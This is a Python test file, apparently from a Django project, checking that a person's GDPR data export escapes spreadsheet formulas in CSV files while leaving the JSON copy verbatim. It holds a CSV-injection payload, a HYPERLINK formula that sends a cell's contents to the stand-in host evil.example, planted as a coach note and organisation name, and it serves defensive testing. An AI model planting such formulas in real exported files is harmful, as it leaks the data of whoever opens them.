"""The person's own data export (GDPR art. 15 and 20): what the ZIP holds, and that it is safe to open."""

import csv
import io
import json
import zipfile

from django.utils import timezone

from openbilan.coaching.models import CoachNote
from openbilan.csvfile import FORMULA_STARTS
from openbilan.privacy import export
from tests.accounts.factories import OrganisationFactory
from tests.projects.factories import bilan

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'


def _csv_rows(archive: zipfile.ZipFile, name: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))


def test_a_coach_note_and_an_organisation_named_like_a_formula_come_out_neutralised(db):
    """Issue 16, finding 8: the person's own CSV files (coach notes included) ran formulas in a spreadsheet."""
    enrolment = bilan()
    enrolment.prescriber = OrganisationFactory(prescriber=True, name=HOSTILE)
    enrolment.save(update_fields=["prescriber"])
    CoachNote.objects.create(enrolment=enrolment, author=enrolment.coach, body=HOSTILE, created_at=timezone.now())
    CoachNote.objects.create(enrolment=enrolment, author=enrolment.coach, body="@SUM(1+1)", created_at=timezone.now())
    archive = zipfile.ZipFile(io.BytesIO(export.zip_for(enrolment.beneficiary)))
    notes = _csv_rows(archive, "csv/coaching-coach_notes.csv")
    enrolments = _csv_rows(archive, "csv/programmes-enrolments.csv")
    assert "'" + HOSTILE in [cell for row in notes for cell in row]
    assert "'@SUM(1+1)" in [cell for row in notes for cell in row]
    assert "'" + HOSTILE in [cell for row in enrolments for cell in row]
    for name in archive.namelist():
        if name.endswith(".csv"):
            cells = [cell for row in _csv_rows(archive, name) for cell in row]
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
    # The JSON files keep the text exactly as written: they are data, not spreadsheets.
    notes_json = json.loads(archive.read("coaching.json"))["coach_notes"]
    assert HOSTILE in [note["note"] for note in notes_json]
